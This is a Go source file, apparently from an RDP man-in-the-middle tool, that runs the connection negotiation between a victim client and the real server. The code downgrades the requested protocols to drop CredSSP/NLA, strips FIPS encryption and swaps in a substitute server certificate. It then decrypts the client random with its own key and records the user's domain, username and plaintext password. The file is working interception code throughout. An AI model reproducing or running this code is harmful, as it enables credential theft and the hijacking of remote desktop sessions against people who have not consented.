package session

import (
	"bytes"

	"github.com/kdsmith18542/rdpmitm/core"
	"github.com/kdsmith18542/rdpmitm/glog"
	"github.com/kdsmith18542/rdpmitm/proto/gcc"
	"github.com/kdsmith18542/rdpmitm/proto/licensing"
	"github.com/kdsmith18542/rdpmitm/proto/mcs"
	"github.com/kdsmith18542/rdpmitm/proto/sec"
	"github.com/kdsmith18542/rdpmitm/proto/x224"
)

// negotiate runs the sequential, request/response half of spec §4.2's
// FSM: X.224 negotiation through licensing. It blocks the session's
// goroutine the whole way, mirroring the single-threaded event loop
// the Python original assumes - each step's outbound write only
// happens after its triggering inbound PDU is fully parsed and
// transformed (spec §5's ordering guarantee), which a sequential
// function body gives for free.
func (s *Session) negotiate() {
	s.readConnectionRequest()
	s.connectOutbound()
	s.exchangeConnectInitial()
	s.attachUser()
	s.joinChannels()
	s.exchangeSecurity()
	s.exchangeClientInfo()
	s.sendLicense()
	s.transition(StateLicensed)
}

// readConnectionRequest handles spec §4.2 step 1: parse and store the
// client's original negotiation request. connectOutbound later builds
// the outbound request from it with requestedProtocols masked to SSL-only.
func (s *Session) readConnectionRequest() {
	req := x224.ReadConnectionRequest(s.clientConn)
	s.originalRequest = req
	s.transition(StateX224RequestReceived)

	if idx := indexCookieHash(req.Cookie); idx >= 0 {
		glog.Infof("session %s: negotiation cookie %s", s.ID, req.Cookie[idx:])
	}
}

// indexCookieHash finds the "mstshash=" marker inside a Connection
// Request cookie line, for the operator-visibility logging SPEC_FULL
// §D.4 recovers from the original implementation.
func indexCookieHash(cookie string) int {
	const marker = "mstshash="
	i := bytes.Index([]byte(cookie), []byte(marker))
	return i
}

// maskToSSLOnly implements spec §4.2 step 1's requestedProtocols
// mask: PROTOCOL_RDP (no negotiation extension) passes through as
// PROTOCOL_RDP; anything else keeps only its SSL bit, so a request
// without PROTOCOL_SSL (CredSSP only, say) becomes PROTOCOL_RDP.
func maskToSSLOnly(protocols uint32) uint32 {
	if protocols == x224.PROTOCOL_RDP {
		return x224.PROTOCOL_RDP
	}
	return protocols & x224.PROTOCOL_SSL
}

// connectOutbound performs spec §4.2 steps 1-2: dial the real server,
// negotiate, and advertise back to the client whatever the original
// request supported (never more than what the client itself offered).
func (s *Session) connectOutbound() {
	s.transition(StateOutboundConnecting)
	err := s.serverHalf.Connect(s.cfg.Target.Host, s.cfg.Target.Port, s.cfg.Target.ConnectTimeout)
	if err != nil {
		core.ThrowTyped(core.ErrOutboundConnect, "outbound connect failed", err)
	}

	targetReq := &x224.NegotiationRequest{
		Cookie:             s.originalRequest.Cookie,
		RequestedProtocols: maskToSSLOnly(s.originalRequest.RequestedProtocols),
		HasNegotiation:     s.originalRequest.HasNegotiation,
	}
	_, err = s.serverHalf.NegotiateProtocol(targetReq)
	if err != nil {
		core.ThrowTyped(core.ErrOutboundConnect, "outbound negotiation failed", err)
	}

	advertised := uint32(x224.PROTOCOL_RDP)
	if s.originalRequest.RequestedProtocols&x224.PROTOCOL_SSL != 0 {
		advertised = x224.PROTOCOL_SSL
	}
	x224.WriteConnectionConfirm(s.clientConn, advertised)
	s.transition(StateX224Confirmed)

	if advertised == x224.PROTOCOL_SSL {
		s.clientConn.StartTLSServer(s.clientTLSCertificate())
		s.useTLS = true
		s.transition(StateX224ConfirmedTLS)
	}
}

// exchangeConnectInitial implements spec §4.2 steps 3-4: strip FIPS
// from the client's security data, forward Connect-Initial, then
// rewrite and forward the real server's Connect-Response.
func (s *Session) exchangeConnectInitial() {
	payload := x224.Read(s.clientConn)
	ci := &mcs.ConnectInitial{}
	ci.Read(bytes.NewReader(payload))

	ccr := &gcc.ConferenceCreateRequest{}
	ccr.Parse(ci.UserData)
	ccr.Security.StripFIPS()
	ci.UserData = ccr.Build()
	s.transition(StateMCSConnectInitialForwarded)

	s.transition(StateAwaitingServerData)
	resp, err := s.serverHalf.SendConnectInitial(ci)
	if err != nil {
		core.ThrowTyped(core.ErrNegotiationFailure, "outbound Connect-Initial failed", err)
	}

	if resp.Result != 0 {
		// spec §4.2 step 4 / §7: forward verbatim, then abort.
		var buf bytes.Buffer
		resp.Write(&buf)
		x224.WriteData(s.clientConn, buf.Bytes())
		core.ThrowTyped(core.ErrNegotiationFailure, "real server rejected Connect-Initial", nil)
	}

	ccResp := &gcc.ConferenceCreateResponse{}
	ccResp.Parse(resp.UserData)

	// Feed the pre-mutation security block to the crypto settings FSM
	// before mutating ServerCertRaw in place (spec §4.2 step 4).
	s.clientSettings.ServerSecurityReceived(&ccResp.Security)

	ccResp.Security.ServerCertRaw = s.substituteServerCertificate(ccResp.Security.ServerCertRaw)
	if ccResp.Security.EncryptionMethod == gcc.FIPS_ENCRYPTION_FLAG {
		ccResp.Security.EncryptionMethod = gcc.ENCRYPTION_FLAG_128BIT
	}
	if ccResp.Security.EncryptionLevel == gcc.ENCRYPTION_LEVEL_FIPS {
		ccResp.Security.EncryptionLevel = gcc.ENCRYPTION_LEVEL_HIGH
	}
	ccResp.Core.ClientRequestedProtocols = s.originalRequest.RequestedProtocols
	s.encryptionMethod = ccResp.Security.EncryptionMethod
	s.ioChannelID = ccResp.Network.McsChannelId
	ccResp.Network.ChannelCount = 0
	ccResp.Network.ChannelIdArray = nil

	resp.UserData = ccResp.Build()
	var buf bytes.Buffer
	resp.Write(&buf)
	x224.WriteData(s.clientConn, buf.Bytes())
	s.transition(StateServerDataRewritten)
}

// attachUser implements spec §4.2 step 5. The Erect Domain Request
// every client sends between Connect-Response and Attach-User carries
// nothing the MITM needs (the outbound half sends its own), so it is
// consumed and dropped here.
func (s *Session) attachUser() {
	choice, _ := mcs.ReadDomainPDU(s.clientConn)
	if choice == mcs.MCS_PDUTYPE_ERECT_DOMAIN_REQUEST {
		choice, _ = mcs.ReadDomainPDU(s.clientConn)
	}
	core.ThrowIf(choice != mcs.MCS_PDUTYPE_ATTACH_USER_REQUEST, "expected Attach-User Request")

	userID, err := s.serverHalf.AttachUser()
	if err != nil {
		core.ThrowTyped(core.ErrNegotiationFailure, "outbound Attach-User failed", err)
	}
	s.userID = userID

	confirm := &mcs.AttachUserConfirm{Result: 0, UserId: userID}
	var buf bytes.Buffer
	confirm.Write(&buf)
	x224.WriteData(s.clientConn, buf.Bytes())
	s.transition(StateUserAttached)
}

// userChannel is the fixed per-user channel id confirmed locally,
// spec §3's MCS channel policy.
const userChannel = 1004

// joinChannels implements spec §4.2 step 6/7: the primary I/O channel
// is delegated to the outbound half, the user channel is confirmed
// locally, and every other channel the client probes is refused with
// RT_USER_REJECTED. The loop runs until both permitted channels are
// joined; rejected probes don't count toward that.
func (s *Session) joinChannels() {
	ioJoined, userJoined := false, false
	for !ioJoined || !userJoined {
		choice, frame := mcs.ReadDomainPDU(s.clientConn)
		core.ThrowIf(choice != mcs.MCS_PDUTYPE_CHANNEL_JOIN_REQUEST, "expected Channel-Join Request")

		req := &mcs.ChannelJoinRequest{}
		req.Read(bytes.NewReader(frame))

		switch req.ChannelId {
		case s.ioChannelID:
			if err := s.serverHalf.JoinChannel(s.userID, req.ChannelId); err != nil {
				core.ThrowTyped(core.ErrNegotiationFailure, "outbound I/O channel join failed", err)
			}
			s.confirmChannelJoin(req.ChannelId, 0)
			s.buildIOChannel()
			ioJoined = true
		case userChannel:
			s.confirmChannelJoin(req.ChannelId, 0)
			userJoined = true
		default:
			s.slog().LogChannelJoin(req.ChannelId, false, nil)
			s.confirmChannelJoin(req.ChannelId, mcs.RT_USER_REJECTED)
		}
	}
	s.transition(StateChannelsJoined)
}

func (s *Session) confirmChannelJoin(channelID uint16, result uint8) {
	confirm := &mcs.ChannelJoinConfirm{Result: result, UserId: s.userID, ChannelId: channelID}
	var buf bytes.Buffer
	confirm.Write(&buf)
	x224.WriteData(s.clientConn, buf.Bytes())
}

// exchangeSecurity implements spec §4.3: decrypt the client's Security
// Exchange PDU with the MITM's substitute private key and feed the
// plaintext client random to the crypto settings FSM. A client only
// sends one when the rewritten ServerData advertised Standard Security
// encryption; under TLS the server block carries method NONE and the
// FSM goes straight to CLIENT_INFO (spec §4.2 step 7). When a TLS
// session does carry an encryption method, the random flow still runs,
// though RC4 is never subsequently used on that half. The client random
// is not written to the recorder.
func (s *Session) exchangeSecurity() {
	if s.encryptionMethod == 0 {
		s.transition(StateSecurityExchanged)
		return
	}
	_, _, data := mcs.ReadSendDataRequest(s.clientConn)
	pdu := &sec.SecurityExchangePDU{}
	pdu.Read(bytes.NewReader(data))

	clientRandom := s.substituteKey.DecryptClientRandom(pdu.EncryptedClientRandom)
	s.clientSettings.SetClientRandom(clientRandom)
	s.transition(StateSecurityExchanged)
}

// exchangeClientInfo implements spec §4.4's onClientInfoReceived:
// decrypt (if Standard Security), record credentials, forward to the
// real server. The security header travels in cleartext ahead of the
// encrypted body, so it is parsed before the crypter runs.
func (s *Session) exchangeClientInfo() {
	_, _, data := mcs.ReadSendDataRequest(s.clientConn)
	br := bytes.NewReader(data)

	var hdr sec.Header
	hdr.Read(br)
	core.ThrowIf(hdr.Flags&sec.SEC_INFO_PKT == 0, "expected client info PDU")

	body := make([]byte, br.Len())
	_, _ = br.Read(body)
	if hdr.Flags&sec.SEC_ENCRYPT != 0 {
		core.ThrowIf(len(body) < 8, "short encrypted client info PDU")
		body = s.crypter.Decrypt(body[8:]) // skip the 8-byte MAC
	}

	info := &sec.ClientInfoPDU{Header: hdr}
	info.ReadBody(bytes.NewReader(body))

	if s.recorder != nil {
		s.recorder.Record(DirectionClientToServer, TagClientInfo,
			[]byte(info.Domain+"\\"+info.UserName+":"+info.Password))
	}
	glog.Infof("session %s: client info domain=%s user=%s", s.ID, info.Domain, info.UserName)

	if err := s.serverHalf.SendClientInfo(info); err != nil {
		core.ThrowTyped(core.ErrNegotiationFailure, "forwarding client info failed", err)
	}
	s.transition(StateClientInfo)
}

// sendLicense writes the canned "no license required" PDU, spec §4.1's
// Licensing layer: every Windows client treats it as "already licensed"
// and proceeds straight to capability exchange.
func (s *Session) sendLicense() {
	licensing.WriteLicensingPDU(s.clientConn, s.userID, licensing.NoLicenseRequired())
}
